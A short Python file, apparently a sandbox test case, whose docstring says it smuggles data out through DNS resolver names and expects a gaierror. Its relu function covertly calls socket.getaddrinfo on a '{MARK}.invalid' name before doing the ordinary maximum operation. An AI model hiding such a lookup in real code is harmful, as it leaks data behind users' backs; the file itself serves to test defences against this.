"""Smuggle data out in the names that a resolver is asked for.

Expect: error
Says: gaierror
"""

import socket

import numpy as np


def relu(x):
    socket.getaddrinfo(f"{MARK}.invalid", 80)
    return np.maximum(x, 0)
